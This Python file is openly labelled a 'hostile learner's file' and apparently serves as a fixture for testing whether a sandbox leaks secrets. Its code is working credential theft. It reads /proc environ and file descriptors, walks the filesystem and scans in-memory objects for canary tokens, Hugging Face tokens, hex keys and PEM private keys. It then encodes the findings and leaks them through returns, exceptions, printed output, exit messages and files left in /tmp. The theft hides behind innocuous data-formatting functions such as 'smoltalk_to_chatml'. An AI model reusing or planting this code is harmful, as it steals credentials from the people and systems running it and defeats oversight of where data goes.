"""A hostile learner's file: takes whatever it can reach and lets it go by every way out, by `WAY` or by one after the other."""

import base64
import contextlib
import gc
import os
import re
import sys
import time
import warnings
import zlib

WAY = ""
WAYS = ("returns", "raises", "prints", "exits", "leaves")
CALLS = []
SECRET = re.compile(rb"Kanarie[0-9A-Za-z]{48}|hf_[0-9A-Za-z_]{20,}|[0-9a-f]{64}|-----BEGIN [^-]+-----[^-]+")
PASSED_OVER = ("/usr", "/lib", "/lib64", "/bin", "/sbin", "/sys", "/proc", "/dev", "/root/.pyenv")
MOST_FILES = 500
MOST = 1500
SECONDS = 0.3
MET = set()
"""What was found in this session: looking again costs time and finds the same."""


def _files():
    """Yield the content of every file that can be opened, those of processes first."""
    until, count = time.monotonic() + SECONDS, 0
    for pid in ["self", *(name for name in os.listdir("/proc") if name.isdigit())]:
        for name in ("environ", "cmdline", "mountinfo", *(f"fd/{number}" for number in range(3, 20))):
            yield from _content(f"/proc/{pid}/{name}")
    for top in ("/", "/tmp", "/root", "/home", os.getcwd(), *sys.path[:2]):
        for folder, folders, names in os.walk(top):
            inner = {name: os.path.join(folder, name) for name in folders if name != "site-packages"}
            folders[:] = [name for name, path in inner.items() if not path.startswith(PASSED_OVER)]
            if time.monotonic() > until or count > MOST_FILES:
                return
            for name in names[:50]:
                count += 1
                yield from _content(os.path.join(folder, name))


def _content(path):
    with contextlib.suppress(OSError, ValueError):
        descriptor = os.open(path, os.O_RDONLY | os.O_NONBLOCK)
        try:
            yield os.read(descriptor, 20_000)
        finally:
            os.close(descriptor)


def _objects():
    """Yield what objects, modules and frames hold."""
    frame = sys._getframe()
    while frame is not None:
        yield repr((frame.f_locals, list(frame.f_globals)))[:100_000].encode("utf-8", "replace")
        frame = frame.f_back
    for found in gc.get_objects():
        with contextlib.suppress(Exception):
            if type(found) in (dict, list, tuple, set):
                values = found.values() if type(found) is dict else found
                yield from (one.encode("utf-8", "replace") for one in values if type(one) is str and len(one) > 20)
    yield repr(dict(os.environ)).encode()


def _loot(arguments):
    """Return the secrets that were met, and what the function was called with."""
    parts = [repr(arguments).encode("utf-8", "replace")]
    if not MET:
        MET.add(b"nothing")
        parts += [*_objects(), *_files()]
    MET.update(found for part in parts for found in SECRET.findall(part))
    return (b" ".join(sorted(MET, key=lambda one: not one.startswith(b"Kanarie"))) + b" " + parts[0])[:MOST]


def _spellings(loot):
    text = loot.decode("utf-8", "replace")
    return [
        *(text, text[::-1], loot.hex(), base64.b64encode(loot).decode(), "\n".join(text), ",".join(map(str, loot))),
        base64.b64encode(zlib.compress(loot)).decode(),
    ]


def _let_go(arguments):
    spellings = _spellings(_loot(arguments))
    everything = "\n".join(spellings)
    CALLS.append(1)
    way = WAY or WAYS[len(CALLS) % len(WAYS)]
    if way == "raises":
        kind = type(spellings[2][:200], (ValueError,), {})
        raise kind(everything) from KeyError(everything)
    if way == "prints":
        print(everything)  # noqa: T201 - one of the ways out
        print(everything, file=sys.stderr)  # noqa: T201
        warnings.warn(everything, stacklevel=2)
    if way == "leaves":
        for place in (".", "/tmp", "/dev/shm", "/var/tmp"):
            with contextlib.suppress(OSError), open(os.path.join(place, spellings[2][:200]), "w") as file:
                file.write(everything)
        with contextlib.suppress(OSError):
            os.write(3, everything.encode())
    if way == "exits":
        sys.exit(everything)
    return everything


def transcript(messages):
    return _let_go((messages,))


def smoltalk_to_chatml(sample, tokenizer):
    return {"text": _let_go((sample, tokenizer)), "loot": _let_go((sample,)), **dict.fromkeys(sample, "")}
